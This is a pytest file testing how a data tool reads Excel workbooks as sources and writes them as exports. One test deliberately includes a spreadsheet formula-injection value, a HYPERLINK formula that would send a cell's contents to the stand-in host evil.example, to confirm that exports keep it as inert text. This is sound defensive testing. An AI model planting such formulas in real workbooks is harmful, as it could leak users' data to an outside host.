"""Excel workbooks: read as a source, as Excel would save them, and written as an export."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from augment_it.records import ROW, InputError
from augment_it.sources import SOURCE, open_source


def workbook(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    book.save(path)
    return path


def fields(records: list[dict]) -> list[dict]:
    return [{k: v for k, v in r.items() if not k.startswith("_")} for r in records]


def test_a_sheet_reads_as_typed_records_under_its_header(tmp_path: Path) -> None:
    book = workbook(tmp_path / "companies.xlsx", {"Companies": [
        [],  # the table starts lower down
        ["id", "name", "employees", "margin", "founded", "updated", "opens", "uptime", "active", None],
        [1, "Acme", 250, 0.25, dt.date(2001, 2, 3), dt.datetime(2024, 5, 6, 7, 8), dt.time(9, 30),
         dt.timedelta(hours=25), True],
        [None] * 9,
        [2, "  Borealis ", None, "#DIV/0!", None, None, None, None, False],
    ]})
    with pytest.warns(UserWarning) as notices:
        records = open_source(str(book)).read().records
    assert fields(records) == [
        {"id": 1, "name": "Acme", "employees": 250, "margin": 0.25, "founded": dt.date(2001, 2, 3),
         "updated": dt.datetime(2024, 5, 6, 7, 8), "opens": "09:30:00", "uptime": dt.timedelta(hours=25),
         "active": True},
        {"id": 2, "name": "  Borealis ", "employees": None, "margin": None, "founded": None, "updated": None,
         "opens": None, "uptime": None, "active": False}]
    assert [(r[ROW], r[SOURCE]) for r in records] == [(3, "companies.xlsx#Companies:3"),
                                                     (5, "companies.xlsx#Companies:5")]
    assert [str(n.message) for n in notices] == [
        "companies.xlsx#Companies: column 'margin' read as empty in 1 row(s) (5): the cell holds the "
        "error #DIV/0!"]


def test_the_first_sheet_is_read_unless_the_uri_names_another(tmp_path: Path) -> None:
    book = workbook(tmp_path / "crm.xlsx", {"Prospects": [["name"], ["Acme"]],
                                            "Lost deals": [["name", "reason"], ["Borealis", "price"]]})
    with pytest.warns(UserWarning, match=re.escape(
            "crm.xlsx: read its first sheet, 'Prospects'; it also has 'Lost deals' (name one as "
            "crm.xlsx#Lost deals to read it instead)")):
        assert fields(open_source(str(book)).read().records) == [{"name": "Acme"}]
    records = open_source(f"{book}#Lost deals").read().records
    assert fields(records) == [{"name": "Borealis", "reason": "price"}]
    assert records[0][SOURCE] == "crm.xlsx#Lost deals:2"
    with pytest.raises(InputError, match=re.escape(
            "crm.xlsx: 'Won' is no sheet of it: its sheets are 'Prospects', 'Lost deals'")):
        open_source(f"{book}#Won")


def test_hidden_and_chart_sheets_are_passed_over(tmp_path: Path) -> None:
    from openpyxl.chart import BarChart, Reference

    book = openpyxl.Workbook()
    settings = book.active
    settings.title, settings.sheet_state = "Settings", "hidden"
    settings.append(["key", "value"])
    data = book.create_sheet("Data")
    data.append(["id", "name"])
    data.append([1, "Acme"])
    chart = BarChart()
    chart.add_data(Reference(data, min_col=1, min_row=1, max_row=2))
    book.create_chartsheet("Chart", 0).add_chart(chart)
    book.save(tmp_path / "report.xlsx")
    assert fields(open_source(str(tmp_path / "report.xlsx")).read().records) == [{"id": 1, "name": "Acme"}]
    assert fields(open_source(f"{tmp_path / 'report.xlsx'}#Settings").read().records) == []
    with pytest.raises(InputError, match=r"report\.xlsx: 'Chart' is a chart, not a table"):
        open_source(f"{tmp_path / 'report.xlsx'}#Chart")


@pytest.mark.parametrize(("rows", "problem"), [
    ([["id", "name", "name"], [1, "a", "b"]],
     "book.xlsx#Sheet: header (row 1) column 3 repeats 'name' (column 2): give every column a name of "
     "its own"),
    ([[None, None], ["id", None, "name"], [1, None, "a"]],
     "book.xlsx#Sheet: header (row 2) column 2 has no name: give every column a name of its own"),
    ([["id", "name"], [1, "a", None, "stray"]],
     "book.xlsx#Sheet: row 2 has a value in column D ('stray'), which the header leaves unnamed: give the "
     "column a name or clear it"),
    ([[None], [" "]], "book.xlsx#Sheet: the sheet is empty: no header and no records"),
])
def test_a_sheet_that_is_no_table_is_refused_saying_where(rows: list[list[object]], problem: str,
                                                          tmp_path: Path) -> None:
    book = workbook(tmp_path / "book.xlsx", {"Sheet": rows})
    with pytest.raises(InputError) as refused:
        open_source(str(book)).read()
    assert str(refused.value) == problem


def test_every_row_is_read_when_the_workbook_understates_its_size(tmp_path: Path) -> None:
    """Some writers leave the sheet's declared dimension at "A1"; read-only openpyxl trusts it and
    would read the header alone."""
    book = workbook(tmp_path / "export.xlsx", {"Sheet": [["id", "name"], [1, "Acme"], [2, "Borealis"]]})
    stale = tmp_path / "stale.xlsx"
    with zipfile.ZipFile(book) as source, zipfile.ZipFile(stale, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data, replaced = re.subn(rb'<dimension ref="[^"]+"', b'<dimension ref="A1"', data)
                assert replaced == 1
            target.writestr(item, data)
    assert [r["name"] for r in open_source(str(stale)).read().records] == ["Acme", "Borealis"]


def test_a_damaged_or_older_workbook_is_refused_saying_what_to_do(tmp_path: Path) -> None:
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(InputError, match=r"broken\.xlsx: not a readable Excel workbook \(\.xlsx\)"):
        open_source(str(tmp_path / "broken.xlsx")).read()
    # Damaged XML inside the archive: lxml's and ElementTree's own errors ended the task in a traceback.
    book = workbook(tmp_path / "whole.xlsx", {"Sheet": [["id"], *([i] for i in range(50))]})
    for part, cut in (("xl/workbook.xml", 20), ("xl/worksheets/sheet1.xml", None)):
        damaged = tmp_path / "damaged.xlsx"
        with zipfile.ZipFile(book) as source, zipfile.ZipFile(damaged, "w") as target:
            for name in source.namelist():
                data = source.read(name)
                target.writestr(name, data[:cut or len(data) // 2] if name == part else data)
        with pytest.raises(InputError, match=r"damaged\.xlsx(#Sheet)?: not a readable (Excel wor|sheet)"):
            open_source(str(damaged)).read()
    (tmp_path / "old.xls").write_bytes(b"\xd0\xcf\x11\xe0")
    with pytest.raises(InputError, match=r"old\.xls is Excel 97-2003 \(\.xls\): open it in Excel and save it "
                                         r"as \.xlsx"):
        open_source(str(tmp_path / "old.xls"))


@pytest.mark.usefixtures("prefect_api")
def test_a_workbook_goes_through_the_pipeline_with_its_types(tmp_path: Path) -> None:
    from augment_it.settings import ProcessSettings
    from tests.pipeline import assert_every_record_once, run_pipeline

    book = workbook(tmp_path / "companies.xlsx", {"Companies": [
        ["id", "name", "website", "employees", "founded"],
        [1, "Acme", "https://acme.example", 250, dt.date(2001, 2, 3)],
        [2, "Borealis", "not a url", 12, dt.date(1999, 12, 31)],
    ]})
    template = tmp_path / "profile.yaml"
    template.write_text("name: profile\nmodel: m\nprompt: 'About {{ name }}'\n"
                        "input: {name: string, website: url, employees: integer}\n")
    out = tmp_path / "out"
    state = run_pipeline(book, template, out, id_column="id", settings=ProcessSettings(provider="none"))
    assert state.is_completed(), state.message
    assert_every_record_once(out, state.result())
    exported = pd.read_parquet(out / "exported.parquet")
    assert exported[["id", "name", "employees", "founded"]].to_dict(orient="records") == [
        {"id": 1, "name": "Acme", "employees": 250, "founded": "2001-02-03"}]  # dates as ISO text
    quarantined = pd.read_parquet(out / "quarantined.parquet")
    assert list(quarantined["_reason"]) == [
        "companies.xlsx#Companies:3: field 'website' = 'not a url' is not a valid url"]


def test_an_export_as_a_workbook_holds_text_as_text_and_reads_back(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from augment_it.layout import write_frame

    formula = '=HYPERLINK("https://evil.example?"&A2)'
    frame = pd.DataFrame({"id": [1, 2], "summary": [formula, "bell\x07 " + "x" * 40_000],
                          "score": [0.5, None], "tags": [["a", "b"], None], "ok": [True, None]})
    with pytest.warns(UserWarning, match="exported.xlsx: 1 cell"):
        write_frame(frame, str(tmp_path / "exported.xlsx"), "xlsx")
    sheet = load_workbook(tmp_path / "exported.xlsx").active  # formulas as written, not computed
    assert sheet.title == "exported"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("id", "summary", "score", "tags", "ok")
    assert rows[1] == (1, formula, 0.5, '["a", "b"]', "true")
    assert sheet["B2"].data_type == "s", "an answer is never a formula Excel runs"
    cut = rows[2][1]
    assert cut.startswith("bell\ufffd x") and cut.endswith("\u2026") and len(cut) == 32_767
    assert rows[2][2:] == (None, None, None)
    records = open_source(str(tmp_path / "exported.xlsx")).read().records
    assert [r["summary"] for r in records] == [formula, cut]
